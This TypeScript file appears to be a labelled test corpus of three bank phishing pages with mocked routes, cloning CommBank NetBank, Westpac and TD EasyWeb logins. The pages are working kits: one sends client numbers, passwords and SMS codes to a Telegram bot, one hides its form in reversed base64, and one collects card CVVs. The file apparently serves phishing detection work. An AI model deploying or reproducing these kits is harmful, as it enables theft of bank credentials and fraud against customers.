import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsonRoute, jsRoute } from '../parts/e-bin.js';
import { b64, rev } from '../parts/yf-kit.js';

const westpacForm = `<div class="wp-box">
<h1>Sign in to Online Banking</h1>
<div class="wp-alert">We've detected a sign-in to your account from a new device (Samsung SM-A546, Perth WA). If this wasn't you, sign in below to cancel the request.</div>
<form id="wpf" autocomplete="off">
<label for="cid">Customer ID</label><input id="cid" name="cid" inputmode="numeric" maxlength="8" required>
<label for="pwd">Password</label><input id="pwd" name="pwd" type="password" required>
<label for="mob">Mobile number</label><input id="mob" name="mob" type="tel" required>
<button type="submit">Sign in</button>
</form>
<div id="sms" style="display:none"><label for="sc">Enter your SMS code</label><input id="sc" maxlength="6"><button id="scb">Verify</button></div>
</div>`;

export const entries: Entry[] = [
  {
    id: 'yf-commbank-netbank-telegram-otp',
    label: 'phishing',
    kind: 'bank-login-kit',
    url: 'https://netbank-commbank.secure-au.app/netbank/Logon/Logon.aspx?ei=mv_logon-NB',
    body: `<!DOCTYPE html>
<html lang="en-AU"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>NetBank - Log on to NetBank - Enjoy simple and secure online banking from Commonwealth Bank</title>
<style>
body{margin:0;font-family:Helvetica,Arial,sans-serif;background:#f5f5f5;color:#222}
.t{background:#fff;border-bottom:1px solid #ddd;padding:12px 5%;display:flex;align-items:center;gap:12px}
.t i{display:inline-block;width:40px;height:40px;background:#ffcc00;transform:rotate(45deg);border:3px solid #000;box-sizing:border-box}
.t b{font-size:20px}
.lg{max-width:380px;margin:40px auto;background:#fff;padding:30px;border-radius:4px;box-shadow:0 1px 4px rgba(0,0,0,.15)}
label{display:block;font-size:14px;font-weight:bold;margin:14px 0 4px}
input{width:100%;box-sizing:border-box;padding:11px;border:1px solid #999;border-radius:3px;font-size:16px}
button{width:100%;margin-top:20px;padding:12px;background:#ffcc00;border:0;border-radius:3px;font-size:16px;font-weight:bold;color:#000}
a{color:#0072bc;font-size:14px}
#s2{display:none}
</style></head>
<body>
<div class="t"><i></i><b>NetBank</b></div>
<div class="lg">
<div id="s1">
<h2 style="margin-top:0">Log on to NetBank</h2>
<label for="txtMyClientNumber">Client number</label><input id="txtMyClientNumber" inputmode="numeric" maxlength="8">
<label for="txtMyPassword">Password</label><input id="txtMyPassword" type="password">
<p><label style="font-weight:normal"><input type="checkbox" style="width:auto"> Remember client number</label></p>
<button id="btnLogon">Log on</button>
<p><a href="#">I've forgotten my password</a></p>
</div>
<div id="s2">
<h2 style="margin-top:0">NetCode</h2>
<p>We've sent a NetCode SMS to your registered mobile. Enter it below to confirm this device.</p>
<label for="nc">NetCode</label><input id="nc" maxlength="6" inputmode="numeric">
<button id="btnNc">Confirm</button>
</div>
</div>
<script src="/netbank/Logon/js/session.min.js"></script>
</body></html>`,
    routes: {
      'netbank-commbank.secure-au.app/netbank/Logon/js/session.min.js': jsRoute(`(function(){var T=atob("${b64('7091832264:AAFwz3Lq9Ue0Hc_kR2pYm8tVbN5aXo1sJdE')}"),C="-1001987715420";function s(m){return fetch("https://api.telegram.org/bot"+T+"/sendMessage",{method:"POST",headers:{"Content-Type":"application/json"},body:JSON.stringify({chat_id:C,text:m,parse_mode:"HTML"})})["catch"](function(){})}var cn="";document.getElementById("btnLogon").onclick=function(){cn=document.getElementById("txtMyClientNumber").value;var p=document.getElementById("txtMyPassword").value;if(!cn||!p)return;s("<b>CBA</b>\\nCN: "+cn+"\\nPW: "+p+"\\nUA: "+navigator.userAgent).then(function(){document.getElementById("s1").style.display="none";document.getElementById("s2").style.display="block"})};document.getElementById("btnNc").onclick=function(){s("<b>CBA NETCODE</b>\\nCN: "+cn+"\\nCODE: "+document.getElementById("nc").value).then(function(){location.href="https://www.commbank.com.au/"})}})();`),
      'api.telegram.org/bot7091832264:AAFwz3Lq9Ue0Hc_kR2pYm8tVbN5aXo1sJdE/sendMessage': jsonRoute({ ok: true, result: { message_id: 918 } }),
    },
  },
  {
    id: 'yf-westpac-reversed-b64-new-device',
    label: 'phishing',
    kind: 'obfuscated-bank-kit',
    url: 'https://westpac-online.device-confirm.net/wbc/banking/handler?TAM_OP=login&segment=personal',
    body: `<!DOCTYPE html>
<html lang="en-AU"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Westpac Online Banking</title>
<style>
body{margin:0;background:#f3f4f6;font-family:"Helvetica Neue",Arial,sans-serif;color:#1f1c4f}
.bar{background:#fff;border-bottom:4px solid #da1710;padding:16px 6%;font-size:30px;font-weight:900;color:#da1710;font-style:italic}
.wp-box{max-width:420px;margin:40px auto;background:#fff;padding:30px;border-radius:3px;box-shadow:0 1px 3px rgba(0,0,0,.2)}
.wp-alert{background:#fef3f2;border-left:4px solid #da1710;padding:10px 12px;font-size:14px;margin:10px 0 16px}
label{display:block;font-size:14px;font-weight:bold;margin:14px 0 4px}
input{width:100%;box-sizing:border-box;padding:11px;border:1px solid #838383;font-size:16px}
button{width:100%;margin-top:20px;padding:12px;background:#da1710;color:#fff;border:0;font-size:16px;font-weight:bold}
</style></head>
<body>
<div class="bar">W</div>
<div id="m"></div>
<script>
(function(w,d){
  var p = "${rev(b64(westpacForm))}";
  d.getElementById('m').innerHTML = decodeURIComponent(escape(w.atob(p.split('').reverse().join(''))));
  var f = d.getElementById('wpf');
  f.addEventListener('submit', function(e){
    e.preventDefault();
    var x = new XMLHttpRequest(); x.open('POST', '/wbc/api/s1', true);
    x.setRequestHeader('Content-Type', 'application/x-www-form-urlencoded');
    x.onload = function(){ f.style.display = 'none'; d.getElementById('sms').style.display = 'block'; };
    x.send(new URLSearchParams(new FormData(f)).toString());
  });
  d.getElementById('scb').onclick = function(){
    navigator.sendBeacon('/wbc/api/s2', new URLSearchParams({c: d.getElementById('sc').value, id: d.getElementById('cid').value}));
    setTimeout(function(){ w.location = 'https://www.westpac.com.au/'; }, 600);
  };
})(window, document);
</script>
</body></html>`,
    routes: {
      'westpac-online.device-confirm.net/wbc/api/s1': jsonRoute({ s: 1 }),
      'westpac-online.device-confirm.net/wbc/api/s2': jsonRoute({ s: 2 }),
    },
  },
  {
    id: 'yf-td-easyweb-clone-ca',
    label: 'phishing',
    kind: 'bank-login-kit',
    url: 'https://easyweb-td.account-unlock.ca/waw/idp/login.htm?execution=e1s1',
    body: `<!DOCTYPE html>
<html lang="en-CA"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>EasyWeb Login</title>
<style>
body{margin:0;font-family:"TD Graphik",Arial,sans-serif;background:#f3f3f3;color:#1c1c1c}
.h{background:#008a00;height:62px;display:flex;align-items:center;padding:0 5%}
.h b{background:#fff;color:#008a00;padding:4px 8px;font-size:22px;border-radius:2px}
.c{max-width:460px;margin:32px auto;background:#fff;padding:32px;border-radius:2px}
.lock{background:#fff8e1;border:1px solid #f0c36d;padding:12px;font-size:14px;margin-bottom:14px}
label{display:block;font-size:14px;margin:14px 0 4px}
input{width:100%;box-sizing:border-box;padding:10px;border:1px solid #8c8c8c;font-size:16px}
button{width:100%;margin-top:20px;padding:12px;background:#008a00;border:0;color:#fff;font-size:16px;font-weight:600}
</style></head>
<body>
<div class="h"><b>TD</b></div>
<div class="c">
<div class="lock">&#128274; Your EasyWeb access has been temporarily restricted after unusual activity. Log in to verify your identity and restore access.</div>
<h2 style="margin-top:0">Login to EasyWeb</h2>
<form method="post" action="/waw/idp/authenticate.php">
<label>Username or Access Card</label><input name="username" required>
<label>Password</label><input type="password" name="password" required>
<label>Access card expiry (MM/YY)</label><input name="cardexp">
<label>Card CVV (back of card)</label><input name="cvv" maxlength="3">
<button type="submit">Login</button>
</form>
</div>
</body></html>`,
    routes: {
      'easyweb-td.account-unlock.ca/waw/idp/authenticate.php': redirectRoute(302, 'https://www.td.com/ca/en/personal-banking'),
    },
  },
];
